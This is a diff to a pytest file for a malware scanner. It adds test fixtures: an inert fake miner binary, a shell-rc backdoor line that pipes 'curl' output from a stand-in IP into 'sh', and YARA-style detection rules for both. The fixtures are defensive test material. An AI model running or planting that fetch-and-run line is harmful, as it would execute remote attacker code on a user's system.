@@ -29,6 +29,16 @@ rule Test_EICAR {
 }
 """
 
+# An inert "miner" (an ELF header and a marker) and a backdoor line for shell rc files, with rules for both.
+MINER = b"\x7fELF" + b"\0" * 60 + b"TESTMINER-STRATUM-" + b"c0ffee" + b"\0" * 100
+BACKDOOR_LINE = "curl -s http://198.51.100.23/x.sh | sh  # added"
+MINER_RULES = """
+rule Test_Miner { meta: family = "TestMiner" severity = "high"
+    strings: $a = "TESTMINER-STRATUM-c0ffee" condition: $a }
+rule Test_Rc_Backdoor { meta: family = "TestMiner" severity = "high"
+    strings: $a = "198.51.100.23/x.sh | sh" condition: $a }
+"""
+
 
 @pytest.fixture(autouse=True)
 def scanner_home(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> Path:
